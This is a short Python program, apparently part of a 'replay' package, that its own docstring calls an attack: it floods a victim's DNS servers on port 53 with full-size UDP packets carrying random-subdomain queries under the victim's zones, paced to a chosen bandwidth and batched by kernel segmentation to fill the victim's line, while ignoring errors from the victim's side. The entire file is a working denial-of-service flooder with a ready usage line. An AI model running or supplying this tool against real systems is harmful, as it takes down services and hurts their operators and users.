"""The attack: UDP at a steady rate, in full-size packets whose head is a query for a random name below
one of the victim's zones. The size fills the victim's line, whatever its server makes of them.

    python3 -m replay.flood RATE_MBIT SEED ADDRESS,... ZONE,...
"""

import itertools
import random
import socket
import sys
import time

from replay import wire

PACKET_OCTETS = 1400
HEADS_OCTETS = 42  # Ethernet, IP, UDP
# Packets that the kernel makes of one call. Few: the line's queue has room for others between two
# bursts, the more the longer it is between them.
SEGMENTS = 2
UDP_SEGMENT = 103


def messages(zones, seed):
    chooser = random.Random(seed)
    while True:
        name = f"x{chooser.getrandbits(40):010x}.{chooser.choice(zones)}"
        query = wire.query(chooser.getrandbits(16), name, flags=0)
        yield query + bytes(PACKET_OCTETS - len(query))


def main():
    rate_mbit, seed, addresses, zones = sys.argv[1:]
    packets_s = float(rate_mbit) * 1e6 / 8 / (PACKET_OCTETS + HEADS_OCTETS)
    pool = list(itertools.islice(messages(zones.split(","), int(seed)), 1000))
    bursts = itertools.cycle(b"".join(pool[at : at + SEGMENTS]) for at in range(0, len(pool), SEGMENTS))
    sockets = []
    for address in addresses.split(","):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, PACKET_OCTETS)
        sock.connect((address, 53))
        sockets.append(sock)
    began, sent = time.monotonic(), 0
    for sock in itertools.cycle(sockets):
        try:
            sock.send(next(bursts))
        except OSError:
            pass  # what the victim's side refuses is no reason to stop
        sent += SEGMENTS
        ahead_s = sent / packets_s - (time.monotonic() - began)
        if ahead_s > 0:
            time.sleep(ahead_s)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        pass
